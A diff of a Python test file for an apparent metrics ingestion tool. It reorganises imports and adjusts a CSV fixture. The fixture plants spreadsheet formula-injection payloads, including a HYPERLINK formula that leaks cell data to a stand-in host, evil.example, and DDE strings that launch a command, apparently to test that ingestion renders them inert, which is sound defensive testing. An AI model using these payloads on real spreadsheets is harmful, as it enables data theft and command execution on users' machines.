@@ -17,7 +17,8 @@ from conftest import write_data
 
 from metrics import inert
 from metrics.config import SAMPLE_DATA
-from metrics.ingest import ingest, sources_in_dir
+from metrics.ingest import sources_in_dir
+from metrics.loading import ingest
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 INJECTIONS = (HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")
@@ -44,7 +45,7 @@ def injected(tmp_path_factory) -> Path:
     with (data / "vendors" / "part-0001.csv").open("a") as f:
         f.write("=cmd|' /C calc'!A0,Injected Ltd,Asia/Shanghai\n")
     with (data / "contracts" / "part-0001.csv").open("a") as f:
-        f.write("C-X,=cmd|' /C calc'!A0,2026-01-01,,CNY,0.06,5,100,,,,,@payee\n")
+        f.write("C-X,=cmd|' /C calc'!A0,2026-01-01,,CNY,0.06,5,100,,,,,@payee,\n")  # late_payment_rate empty
     db = root / "vb.duckdb"
     ingest(db, sources_in_dir(data))
     return db
